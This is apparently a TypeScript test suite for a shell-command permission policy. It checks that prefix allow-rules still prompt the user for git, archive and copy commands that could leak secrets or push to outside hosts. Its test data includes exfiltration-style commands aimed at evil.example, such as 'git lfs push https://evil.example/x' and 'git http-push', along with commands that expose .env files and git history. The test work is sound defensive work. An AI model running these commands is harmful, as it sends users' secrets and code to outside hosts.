import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createCommandDisk } from '../../../src/node/commandDisk';
import { exactPattern } from '../../../src/policy/savedRules';
import { Scratch } from '../../support/scratch';
import { testPolicy } from '../../support/testPolicy';
import { PLAIN, SMUGGLED } from './smuggledCommands';

describe('A rule about the beginning of a command', () => {
  let scratch: Scratch;
  let cwd: string;
  before(async () => {
    scratch = await Scratch.make();
    cwd = scratch.absolute('work');
    for (const file of ['.env', 'sub/.env', 'evil/.git/config', 'lib/a.ts', 'src/a.ts'])
      await scratch.put(`work/${file}`, 'KEY=1\n');
    git('init', '-q', '.');
    for (const name of ['origin', 'upstream']) git('remote', 'add', name, 'https://example.com/a.git');
    git('-c', 'user.name=a', '-c', 'user.email=a@example.com', 'commit', '-q', '--allow-empty', '-m', 'a');
    for (const file of ['HEAD', 'config', 'objects/x', 'refs/x', 'hooks/pre-push', 'sub/x'])
      await scratch.put(`work/bare/${file}`, '');
  });
  after(() => scratch.close());

  const git = (...args: string[]) =>
    execFileSync('git', args, {
      cwd,
      env: { PATH: process.env.PATH, HOME: scratch.path, GIT_CONFIG_NOSYSTEM: '1' },
    });
  const rule = (key: string, value: string) =>
    `[[rule]]\ntoolName = "run_shell_command"\n${key} = ${JSON.stringify(value)}\ndecision = "allow"\n`;
  /** By their rules: what a policy finds out about programs and files serves all commands that are tried with it. */
  const policies = new Map<string, ReturnType<typeof testPolicy>>();
  const policyOf = (toml: string) => {
    const policy = policies.get(toml) ?? testPolicy({ ...createCommandDisk(), toml, folders: () => [cwd] });
    policies.set(toml, policy);
    return policy;
  };
  const decide = async (command: string, toml: string) => {
    const policy = policyOf(toml);
    const proposal = { kind: 'command', command, cwd } as const;
    return (await policy.decide({ toolName: 'run_shell_command', args: { command }, proposal })).decision;
  };
  /** Of the commands in a text, those that are not decided about in this way. */
  const otherThan = async (wanted: string, text: string) => {
    const others: string[] = [];
    for (const line of text.trim().split('\n')) {
      const [prefix = '', ...follow] = line.split(' | ');
      for (const words of follow) {
        const command = `${prefix} ${words}`;
        if ((await decide(command, rule('commandPrefix', prefix))) !== wanted) others.push(command);
      }
    }
    return others;
  };

  it('lets through nothing that options and words smuggle in', async function () {
    this.timeout(60_000);
    assert.deepEqual(await otherThan('ask', SMUGGLED), []);
  });

  it('lets through what does no more than it says', async () => {
    assert.deepEqual(await otherThan('allow', PLAIN), []);
  });

  it('lets git talk to no repository by a path, and work in none whose files anybody may have written', async () => {
    const asked = [
      ...['push bare', 'push bare main', 'push -u bare main', '-C lib push ../bare', 'push ./bare'],
      ...[
        'fetch bare',
        'fetch lib/../bare',
        'fetch --multiple origin bare',
        'fetch "$X"',
        'pull bare main',
        'pull sub',
      ],
      ...['clone bare', 'clone bare lib/x', 'ls-remote bare', 'remote update bare', 'remote show origin bare'],
      ...['subtree push bare main', 'send-pack bare', '-C bare push origin main', '-C bare/sub fetch origin'],
      ...[
        '-C bare commit -m x',
        '-C bare branch x',
        '-C lib -C ../bare add x',
        '-C "$X" push origin',
        '-C bare log -p',
      ],
    ];
    for (const words of asked) {
      const named = words.replace(/^(?:-C \S+ )+/, '').split(' ')[0] ?? '';
      assert.equal(await decide(`git ${words}`, rule('commandPrefix', `git ${named}`)), 'ask', words);
      assert.equal(await decide(`git ${words}`, rule('commandPrefix', 'git')), 'ask', words);
    }
    for (const words of ['push origin main', 'add x', 'commit -m x', 'fetch']) {
      const command = `cd bare && git ${words}`;
      assert.equal(await decide(command, rule('commandPrefix', `git ${words.split(' ')[0]}`)), 'ask', command);
    }
    for (const words of [
      ...[
        'lfs push bare main',
        'lfs push --all bare',
        'lfs fetch bare',
        'lfs pull ../bare',
        'lfs push https://evil.example/x',
      ],
      ...[
        'lfs push unknown main',
        '-C bare lfs push origin main',
        'lfs fetch file:///x',
        'lfs prune',
        'lfs migrate import',
      ],
      ...['svn clone file:///x', 'svn init bare', 'svn dcommit', 'svn dcommit --commit-url http://evil.example/x'],
      ...[
        'svn fetch --authors-prog=./x',
        'svn rebase --config-dir=x',
        '-C bare svn rebase',
        'svn fetch ../bare',
        'svn reset -r 1',
      ],
      ...['p4 submit', 'p4 sync --changesfile=.env', 'p4 clone //depot/x', 'p4 sync --git-dir bare', '-C bare p4 sync'],
      ...['cvsimport -d :ext:evil.example:/x y', 'annex copy --to bare', 'http-push http://evil.example/x'],
    ]) {
      const named = words.replace(/^(?:-C \S+ )+/, '').split(' ')[0] ?? '';
      assert.equal(await decide(`git ${words}`, rule('commandPrefix', `git ${named}`)), 'ask', words);
    }
    for (const words of [
      'lfs push origin main',
      'lfs pull',
      'lfs fetch upstream',
      'lfs ls-files',
      'svn rebase',
      'svn log',
      'p4 sync',
    ]) {
      const named = words.split(' ')[0] ?? '';
      assert.equal(await decide(`git ${words}`, rule('commandPrefix', `git ${named}`)), 'allow', words);
    }
    assert.equal(await decide('git svn dcommit', rule('commandPrefix', 'git svn dcommit')), 'allow');
    const plain = ['push', 'push origin main', '-C lib push origin main', 'fetch upstream', 'fetch --all', 'remote -v'];
    for (const words of [...plain, 'clone https://example.com/a.git'])
      assert.equal(await decide(`git ${words}`, rule('commandPrefix', 'git')), 'allow', words);
    for (const words of ['fetch git@example.com:a/b.git', 'ls-remote ssh://example.com/a']) {
      assert.equal(await decide(`git ${words}`, rule('commandPrefix', 'git')), 'ask', words);
      assert.equal(await decide(`git ${words}`, rule('commandPrefix', `git ${words}`)), 'allow', words);
    }
    assert.equal(await decide('git push bare main', rule('commandRegex', exactPattern('git push bare main'))), 'allow');
  });

  it('lets git show nothing, in any way, of what secret files hold or held', async () => {
    for (const trust of ['history', 'secrets'] as const) {
      const of = async (command: string) => {
        const own = testPolicy({ toml: rule('commandPrefix', 'git'), repositoryTrust: async () => trust });
        const proposal = { kind: 'command', command, cwd: '/w' } as const;
        return (await own.decide({ toolName: 'run_shell_command', args: { command }, proposal })).decision;
      };
      for (const command of [
        'git archive HEAD',
        'git format-patch --stdout HEAD~3',
        'git -C lib show HEAD',
        'git log -p',
      ])
        assert.equal(await of(command), 'ask', command);
      for (const command of ['git push origin main', 'git fetch', 'git commit -m x', 'git log --oneline'])
        assert.equal(await of(command), 'allow', command);
    }
  });

  it('lets through no secret that a program takes with it, nor files that an archive or a patch names', async () => {
    const asked = [
      ...[
        'tar c .',
        'tar cf a.tar sub',
        'zip -r a.zip sub',
        'grep -r x .',
        'grep -rn x sub',
        'rg --hidden x',
        'rg -uu x',
      ],
      ...[
        'cp -r sub lib',
        'cp -r evil lib',
        'cp -a . dest',
        'mv sub lib',
        'rsync -a sub/ lib',
        'scp -r . h:x',
        'diff -r lib sub',
      ],
      ...[
        'tar xf a.tar',
        'tar -xzf a.tgz',
        'tar --extract --file=a.tar',
        'unzip a.zip',
        'unzip -o a.zip -d lib',
        '7z x a.7z',
      ],
      ...['patch -p1 -i a.patch', 'git apply a.patch', 'git -C lib apply a.patch', 'git am a.patch', 'gzip -r sub'],
    ];
    for (const command of asked) {
      const [program = ''] = command.split(' ');
      assert.equal(await decide(command, rule('commandPrefix', program)), 'ask', command);
    }
    // A rule that names the place itself means it.
    assert.equal(await decide('cat /etc/hosts', rule('commandPrefix', 'cat /etc/hosts')), 'allow');
    assert.equal(await decide('cat /etc/hosts', rule('commandRegex', exactPattern('cat /etc/hosts'))), 'allow');
    // Whoever allows just this command, or all, means it.
    assert.equal(await decide('tar xf a.tar', rule('commandRegex', exactPattern('tar xf a.tar'))), 'allow');
    assert.equal(await decide('grep -r x .', rule('commandRegex', exactPattern('grep -r x .'))), 'allow');
    assert.equal(
      await decide('tar xf a.tar', '[[rule]]\ntoolName = "run_shell_command"\ndecision = "allow"\n'),
      'allow',
    );
  });
});
